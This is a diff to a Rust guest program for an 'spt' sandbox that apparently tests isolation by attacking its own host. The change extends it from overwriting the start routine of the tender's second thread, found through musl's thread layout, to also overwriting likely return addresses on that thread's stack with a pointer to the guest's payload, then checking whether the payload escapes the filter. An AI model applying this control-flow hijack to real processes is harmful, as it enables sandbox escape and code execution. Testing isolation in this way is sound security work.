@@ -1,5 +1,5 @@
-//! A guest of spt that overwrites the start routine of the tender's second thread, found by the layout of musl's threads, and
-//! sees whether its own code then runs there outside of a filter.
+//! A guest of spt that overwrites the start routine and the return addresses of the tender's second thread, found by the layout
+//! of musl's threads, and sees whether its own code then runs there outside of a filter.
 
 #![no_std]
 #![no_main]
@@ -12,7 +12,7 @@ use husk::{boot, clock};
 husk::entry!(main);
 
 /// How long the other thread may take to run what was put in its place, in nanoseconds.
-const PATIENCE_NS: u64 = 200_000_000;
+const PATIENCE_NS: u64 = 400_000_000;
 /// Bytes of text that the tender may have at either side of its gate.
 const TEXT: u64 = 64 << 20;
 const NOT_YET: i64 = i64::MIN;
@@ -34,17 +34,29 @@ extern "C" fn payload(_: u64) -> u64 {
     }
 }
 
-/// The start routine of the thread beside the one with this FS base, on its stack (struct pthread and struct start_args of
-/// musl): a function of the tender's, an argument, and a zero.
-fn start_routine(fs: u64, gate: u64) -> Option<u64> {
+/// The top of the stack of the thread beside the one with this FS base (struct pthread of musl).
+fn stack(fs: u64) -> u64 {
     const NEXT: u64 = 24;
     const STACK: u64 = 88;
-    let stack = peek_word(peek_word(fs + NEXT) + STACK);
+    peek_word(peek_word(fs + NEXT) + STACK)
+}
+
+/// The start routine on this stack (struct start_args of musl): a function of the tender's, an argument, and a zero.
+fn start_routine(stack: u64, gate: u64) -> Option<u64> {
     let is_start = |at: &u64| {
         let (routine, argument, control) = (peek_word(*at), peek_word(at + 8), peek_word(at + 16) as u32);
         routine.abs_diff(gate) < TEXT && argument > 0x10000 && control == 0
     };
     (0x20..0x400).step_by(8).map(|back| stack - back).find(is_start)
+}
+
+/// Overwrites what may be return addresses on this stack.
+fn overwrite_returns(stack: u64, gate: u64) {
+    const DEPTH: u64 = 64 << 10;
+    for at in (stack - DEPTH..stack).step_by(8).filter(|at| peek_word(*at).abs_diff(gate) < TEXT) {
+        // SAFETY: none: it is the attack.
+        unsafe { (at as *mut u64).write_volatile(payload as *const () as u64) };
+    }
 }
 
 fn main() {
@@ -54,9 +66,11 @@ fn main() {
         (gate..gate + 0x400).find(|at| peek_word(*at) & 0xff_ffff_ffff == 0xc0_ae0f_48f3).expect("it has an FS base");
     let loads = saves + 5 + 7;
     let fs = peek_word((loads + 7).wrapping_add_signed((peek_word(loads + 3) as i32).into()));
-    let found = start_routine(fs, gate).expect("there is a second thread");
+    let stack = stack(fs);
+    let found = start_routine(stack, gate).expect("there is a second thread");
     // SAFETY: none: it is the attack.
     unsafe { (found as *mut u64).write_volatile(payload as *const () as u64) };
+    overwrite_returns(stack, gate);
     husk::println!("overwritten");
     let until = clock::monotonic_ns() + PATIENCE_NS;
     while ANSWER.load(SeqCst) == NOT_YET && clock::monotonic_ns() < until {
